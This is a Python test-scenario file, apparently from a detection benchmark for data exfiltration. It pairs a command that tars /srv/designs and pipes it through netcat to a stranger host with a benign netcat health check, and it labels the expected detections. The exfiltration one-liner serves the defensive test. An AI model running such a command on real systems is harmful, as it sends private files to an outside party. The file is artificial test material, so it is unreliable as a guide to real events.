"""A folder piped into netcat."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs
from ..scenario import RAW, STRANGER, Person, Scenario, Step, Truth

SCENARIO = Scenario(
    number=10,
    title="tar piped into netcat",
    people=(Person("nadia", ("db",)), Person("nils", ("db",))),
    prepared=(designs("db"),),
    steps=(Step("nadia", f"ssh nadia@db 'tar c -C /srv designs | busybox nc {STRANGER} {RAW}'"),),
    twin_title="a health check with netcat: a connection to a port of the fleet, no bytes",
    twin=(Step("nils", "ssh nils@db 'busybox nc -w 1 app 22 < /dev/null > /dev/null'"),),
    truth=Truth("nadia", ("db",), ("netcat-transfer", "upload-new-destination"), DESIGN_BYTES, STRANGER),
)
